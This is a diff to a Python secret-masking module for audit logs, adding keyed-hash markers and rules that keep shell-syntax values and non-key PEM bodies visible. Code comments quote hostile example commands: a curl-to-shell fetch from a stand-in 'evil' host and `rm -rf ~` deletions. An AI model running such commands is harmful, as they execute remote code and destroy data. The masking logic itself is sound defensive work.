@@ -18,13 +18,17 @@ feeds each pattern the inputs that made the old patterns backtrack.
 from __future__ import annotations
 
 import functools
+import hashlib
+import hmac
 import json
 import math
 import re
 from collections.abc import Callable
 from typing import Any
 
-MASK = "[masked]"
+from django.conf import settings
+
+MASK = "[masked"  # the start of every marker: [masked:KIND#HASH]
 MAX_NAME = 128  # the longest key or variable name that is read as a name
 
 # Key names whose value is a secret, compared after lower-casing and mapping "-" to "_".
@@ -95,7 +99,108 @@ _VALUE = (
     r"""(?P<sq>')?(?(sq)(?:[^'\n"\\]++|\\[^"\n])++'|(?!['"])(?:[^\s'"&;,\\]++|\\[^\s"'])++)))"""
 )
 # Values already masked are left alone (masking twice changes nothing).
-_NOT_MASKED = r"(?!\[masked\])"
+_NOT_MASKED = r"(?!\[masked)"
+# What a masked value must not hold: anything a shell or an interpreter reads as more
+# than one literal word (white space, expansions, substitutions, quotes, operators,
+# escapes). A value holding one is kept as it is: the audit copy must show what ran, and
+# `TOKEN="$(curl evil | sh)"` or `--password $(rm -rf ~)` are commands, not secrets.
+_SHELL_SYNTAX = re.compile(r"[\s$`()|;&<>{}\\\"']")
+# A PEM or OpenSSH private key's body: optional RFC 1421 headers, then lines of base64 of
+# one width (the last may be shorter); newlines may be JSON-escaped.
+_KEY_HEADER = re.compile(r"(?:Proc-Type|DEK-Info): [A-Za-z0-9,-]{1,80}")
+_BASE64_LINE = re.compile(r"[A-Za-z0-9+/=]{1,128}")
+MIN_KEY_BODY = 40  # base64 characters: shorter is no key
+
+
+@functools.lru_cache(maxsize=4096)  # bounded; the same secret comes again and again
+def marker(kind: str, value: str) -> str:
+    """`[masked:KIND#HASH]`: what kind of secret was there and the first 8 hex digits of a
+    keyed hash of it (HMAC-SHA256 under a key derived from HARNESS_SECRET_KEY), so two
+    events holding the same secret can be matched without the secret being guessable
+    from the log."""
+    digest = hmac.new(_hash_key(), value.encode(), hashlib.sha256).hexdigest()[:8]
+    # No ":" or "=" after the kind: a marker must not read as `password: value` itself.
+    return f"[masked:{kind}#{digest}]"
+
+
+@functools.cache
+def _hash_key() -> bytes:
+    return hashlib.sha256(b"harness audit mask\x00" + str(settings.SECRET_KEY).encode()).digest()
+
+
+def is_plain_secret(value: str) -> bool:
+    """Whether `value` may be masked: one literal word, no shell or interpreter syntax."""
+    return bool(value) and _SHELL_SYNTAX.search(value) is None
+
+
+def is_key_body(body: str) -> bool:
+    """Whether `body` (between a private key's BEGIN and END lines) is only a key: headers
+    and base64 lines of one width. Anything else (a command between the markers) is
+    kept visible."""
+    lines = [line.strip() for line in re.split(r"\\[nr]|[\r\n]", body)]
+    lines = [line for line in lines if line]
+    while lines and _KEY_HEADER.fullmatch(lines[0]):
+        lines.pop(0)
+    if not lines or not all(_BASE64_LINE.fullmatch(line) for line in lines):
+        return False
+    width = len(lines[0])
+    return (
+        sum(map(len, lines)) >= MIN_KEY_BODY
+        and all(len(line) == width for line in lines[:-1])
+        and len(lines[-1]) <= width
+    )
+
+
+def _masking(
+    kind: str | Callable[[re.Match[str]], str],
+    allowed: Callable[[str], bool] = is_plain_secret,
+) -> Callable[[re.Match[str]], str]:
+    """The replacement of a rule whose pattern names the secret `v` (with its quotes, when
+    the pattern has esc/dq/sq groups): everything else in the match is kept, `v` becomes a
+    marker, unless it is already one or `allowed` refuses it (then nothing changes)."""
+
+    quote_groups: list[tuple[str, ...]] = []  # the pattern's esc/dq/sq groups, read once
+
+    def replace(match: re.Match[str]) -> str:
+        if not quote_groups:  # (Pattern.groupindex builds a new mapping on every access)
+            quote_groups.append(tuple(g for g in ("esc", "dq", "sq") if g in match.re.groupindex))
+        quote = ""
+        for group in quote_groups[0]:
+            quote = match.group(group) or ""
+            if quote:
+                break
+        value = match.group("v")
+        inner = value[len(quote) : len(value) - len(quote)] if quote else value
+        if inner.startswith(MASK) or not allowed(inner):
+            return match.group(0)
+        label = kind if isinstance(kind, str) else kind(match)
+        whole, offset = match.group(0), match.start()
+        start, end = match.span("v")
+        masked = f"{quote}{marker(label, inner)}{quote}"
+        return f"{whole[: start - offset]}{masked}{whole[end - offset :]}"
+
+    return replace
+
+
+def _kind_of_name(match: re.Match[str]) -> str:
+    """The kind of secret a name holds (DB_PASSWORD: password, --api-key: api-key): the
+    rule's first group is the name."""
+    return _kind_of(match.group(1))
+
+
+@functools.lru_cache(maxsize=1024)  # bounded: names come from agents
+def _kind_of(name: str) -> str:
+    name = name.lower()
+    for word, kind in (
+        ("pass", "password"),
+        ("pwd", "password"),
+        ("api", "api-key"),
+        ("secret", "secret"),
+        ("token", "token"),
+    ):
+        if word in name:
+            return kind
+    return "secret"
 
 
 class _Rule:
@@ -128,19 +233,23 @@ _CREDENTIAL_SHAPE = re.compile(r"[0-9+/=._~-]|[a-z][A-Z]")
 def _credential(match: re.Match[str]) -> str:
     """`Bearer <credential>`: masked when it looks like one (a digit, a symbol or mixed
     case), so that prose such as "Basic authentication" stays as it is."""
-    if _CREDENTIAL_SHAPE.search(match.group("credential")):
-        return match.group("scheme") + MASK
+    if _CREDENTIAL_SHAPE.search(match.group("v")):
+        return _masking(match.group("scheme").strip().lower())(match)
     return match.group(0)
 
 
 # Commands whose arguments carry a password in a form of their own, and how.
-_ATTACHED_P = re.compile(r"-(?<![\w-]-)(p)(?!-)" + _NOT_MASKED + _ARG)  # mysql -pSECRET
-_SPACED_P = re.compile(r"-(?<![\w-]-)(p\s{0,8}+|p" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + _ARG)
-_ZIP_P = re.compile(r"-(?<![\w-]-)(P\s{0,8}+|P" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + _ARG)
+_ATTACHED_P = re.compile(r"-(?<![\w-]-)(p)(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})")  # mysql -pX
+_SPACED_P = re.compile(
+    r"-(?<![\w-]-)(p\s{0,8}+|p" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})"
+)
+_ZIP_P = re.compile(
+    r"-(?<![\w-]-)(P\s{0,8}+|P" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})"
+)
 # curl -u user:pass, -uuser:pass, --user=user:pass, --proxy-user user:pass: the user kept.
 _CURL_USER = re.compile(
     r"-(?<![\w-]-)((?:u|U|-user|-proxy-user)(?:=|" + _ARG_SEP + r")?['\"]?"
-    r"[^\s\"':\\,;&|]{0,256}+:)" + _NOT_MASKED + r"(?:[^\s\"'\\,;&|@]++|\\[^\s\"'])++"
+    r"[^\s\"':\\,;&|]{0,256}+:)" + _NOT_MASKED + r"(?P<v>(?:[^\s\"'\\,;&|@]++|\\[^\s\"'])++)"
 )
 _SCOPED: dict[str, tuple[re.Pattern[str], ...]] = {}
 for _names, _patterns in (
@@ -163,7 +272,7 @@ def _command_arguments(match: re.Match[str]) -> str:
     arguments masked; each command's text is read once."""
     rest = match.group("rest")
     for pattern in _SCOPED[match.group("command")]:
-        rest = pattern.sub(lambda m: "-" + m.group(1) + MASK, rest)
+        rest = pattern.sub(_masking("password"), rest)
     return match.group("command") + rest
 
 
@@ -181,12 +290,13 @@ _SECRET_WORDS = ("token", "secret", "pass", "pwd", "apikey", "api_key", "api-key
 # Applied to every string in the payload, in this order. Each pattern starts with a
 # literal (or a letter in either case) and checks what precedes it with a lookbehind.
 RULES: list[_Rule] = [
-    # PEM private keys, whole (also cut short: then up to the next "-----" or the end of
-    # the JSON string); the body never crosses an unescaped quote.
+    # PEM and OpenSSH private keys: the body between the markers (also cut short: then up
+    # to the next "-----" or the end of the JSON string), when it is only a key; the
+    # markers stay. The body never crosses an unescaped quote.
     _Rule(
-        r"-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----(?:[^-\"\\]++|\\.|-(?!----))*+"
+        r"-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----(?P<v>(?:[^-\"\\]++|\\.|-(?!----))*+)"
         r"(?:-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----)?",
-        MASK,
+        _masking("private-key", is_key_body),
         ("-----BEGIN",),
     ),
     # "password": "..." inside JSON text (raw arguments, tool output).
@@ -194,33 +304,44 @@ RULES: list[_Rule] = [
         r'(?P<name>"[\w.-]'
         + f"{{1,{MAX_NAME}}}+"
         + _ENDS_SECRET
-        + r'"\s{0,16}+:\s{0,16}+)"(?:[^"\\\n]++|\\.)++"',
-        r'\g<name>"' + MASK + '"',
+        + r'"\s{0,16}+:\s{0,16}+)(?P<v>(?P<dq>")(?:[^"\\\n]++|\\.)++")',
+        _masking(_kind_of_name),
         _SECRET_WORDS,
         folded=True,
     ),
     # Authorization: Bearer xyz / Basic xyz / token xyz (headers, curl -H ...).
     _Rule(
         r"(?P<scheme>[bBtT](?<=\b[bBtT])(?i:earer|asic|oken)\s{1,16}+)"
-        r"(?P<credential>[A-Za-z0-9._~+/=-]{8,}+)",
+        r"(?P<v>[A-Za-z0-9._~+/=-]{8,}+)",
         _credential,
         ("bearer", "basic", "token"),
         folded=True,
     ),
-    # PASSWORD=..., api_key: ..., --token=..., DB_PASSWORD="a b" (shell, env files,
+    # PASSWORD=..., api_key: ..., --token=..., DB_PASSWORD="a" (shell, env files,
     # config): a name holding a secret word, then = or :, then the value. The match starts
-    # at the secret word; whatever precedes it in the name is left as it is.
+    # at the secret word; whatever precedes it in the name is left as it is. No space
+    # after "=": in `TOKEN= rm -rf ~` the shell runs rm, which is no value.
     _Rule(
-        r"(?P<name>" + _WORD + _NAME_TAIL + r"\s{0,4}+[=:]\s{0,4}+)" + _NOT_MASKED + _VALUE,
-        r"\g<name>\g<esc>\g<dq>\g<sq>" + MASK + r"\g<esc>\g<dq>\g<sq>",
+        r"(?P<name>"
+        + _WORD
+        + _NAME_TAIL
+        + r"\s{0,4}+(?:=|:\s{0,4}+))"
+        + _NOT_MASKED
+        + f"(?P<v>{_VALUE})",
+        _masking(_kind_of_name),
         _SECRET_WORDS,
         folded=True,
     ),
     # --password hunter2, --api-key KEY, -token T, "--password", "hunter2" (the value as a
     # separate argument; the option's name must end with the secret word).
     _Rule(
-        r"(-(?<![\w-]-)-?[\w-]{1,64}+" + _ENDS_SECRET + _ARG_SEP + r")(?!-)" + _NOT_MASKED + _ARG,
-        r"\1" + MASK,
+        r"(-(?<![\w-]-)-?[\w-]{1,64}+"
+        + _ENDS_SECRET
+        + _ARG_SEP
+        + r")(?!-)"
+        + _NOT_MASKED
+        + f"(?P<v>{_ARG})",
+        _masking(_kind_of_name),
         _SECRET_WORDS,
         folded=True,
     ),
@@ -232,19 +353,25 @@ RULES: list[_Rule] = [
     ),
     # scheme://user:password@host (database and broker URLs, git remotes).
     _Rule(
-        r"(://(?<=[\w+.-]://)[^\s/:@\"'\\]{0,256}+:)" + _NOT_MASKED + r"[^\s/@\"'\\]{1,256}+@",
-        r"\1" + MASK + "@",
+        r"(://(?<=[\w+.-]://)[^\s/:@\"'\\]{0,256}+:)"
+        + _NOT_MASKED
+        + r"(?P<v>[^\s/@\"'\\]{1,256}+)@",
+        _masking("url-password"),
         ("://",),
     ),
     # Well-known key formats.
-    _Rule(r"sk-(?<=\bsk-)(?:ant-|proj-)?[A-Za-z0-9_-]{16,}+", "sk-" + MASK, ("sk-",)),
-    _Rule(r"(hrn_(?<=\bhrn_)[0-9a-f]{8}_)[A-Za-z0-9_-]{16,}+", r"\1" + MASK, ("hrn_",)),
-    _Rule(r"gh(?<=\bgh)[pousr]_[A-Za-z0-9]{30,}+", MASK, ("gh",)),
-    _Rule(r"xox(?<=\bxox)[abprs]-[A-Za-z0-9-]{10,}+", MASK, ("xox",)),
-    _Rule(r"AKIA(?<=\bAKIA)[0-9A-Z]{16}\b", MASK, ("AKIA",)),
+    _Rule(r"sk-(?<=\bsk-)(?P<v>(?:ant-|proj-)?[A-Za-z0-9_-]{16,}+)", _masking("api-key"), ("sk-",)),
     _Rule(
-        r"eyJ(?<=\beyJ)[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+",
-        MASK,
+        r"(hrn_(?<=\bhrn_)[0-9a-f]{8}_)(?P<v>[A-Za-z0-9_-]{16,}+)",
+        _masking("harness-token"),
+        ("hrn_",),
+    ),
+    _Rule(r"(?P<v>gh(?<=\bgh)[pousr]_[A-Za-z0-9]{30,}+)", _masking("github-token"), ("gh",)),
+    _Rule(r"(?P<v>xox(?<=\bxox)[abprs]-[A-Za-z0-9-]{10,}+)", _masking("slack-token"), ("xox",)),
+    _Rule(r"(?P<v>AKIA(?<=\bAKIA)[0-9A-Z]{16}\b)", _masking("aws-key"), ("AKIA",)),
+    _Rule(
+        r"(?P<v>eyJ(?<=\beyJ)[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+)",
+        _masking("jwt"),
         ("eyJ",),
     ),
 ]
@@ -305,17 +432,45 @@ def premask(text: str) -> Masked:
 
 
 def mask_secrets(value: Any) -> Any:
-    """A copy of a JSON-like `value` with secret-looking values replaced by "[masked]"."""
+    """A copy of a JSON-like `value` with secret-looking values replaced by markers
+    (`[masked:KIND#HASH]`); words a shell or interpreter would run are never replaced."""
     if isinstance(value, dict):
-        return {
-            k: (MASK if is_secret_key(str(k)) and v not in (None, "") else mask_secrets(v))
-            for k, v in value.items()
-        }
+        return {k: _masked_item(str(k), v) for k, v in value.items()}
     if isinstance(value, list):
         return _mask_list(value)
     if isinstance(value, str):
         return mask_text(value)
     return value
+
+
+def _masked_item(key: str, value: Any) -> Any:
+    """The value under `key`: when the key names a secret, every literal in it becomes a
+    marker (a text holding shell or interpreter syntax stays); else its contents masked."""
+    if is_secret_key(key) and value not in (None, ""):
+        return _all_literals(value, _key_kind(key))
+    return mask_secrets(value)
+
+
+def _all_literals(value: Any, kind: str) -> Any:
+    if isinstance(value, dict):
+        return {k: _all_literals(v, kind) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_all_literals(v, kind) for v in value]
+    if isinstance(value, str):
+        if value.startswith(MASK) or not is_plain_secret(value):
+            return mask_text(value)
+        return marker(kind, value)
+    if value is None or isinstance(value, bool):
+        return value
+    return marker(kind, json.dumps(value))
+
+
+def _key_kind(key: str) -> str:
+    match = SECRET_KEY.search(key.lower().replace("-", "_"))
+    word = match.group(2) if match else "secret"
+    return {"passwd": "password", "pwd": "password", "apikey": "api_key"}.get(word, word).replace(
+        "_", "-"
+    )
 
 
 def _mask_list(items: list[Any]) -> list[Any]:
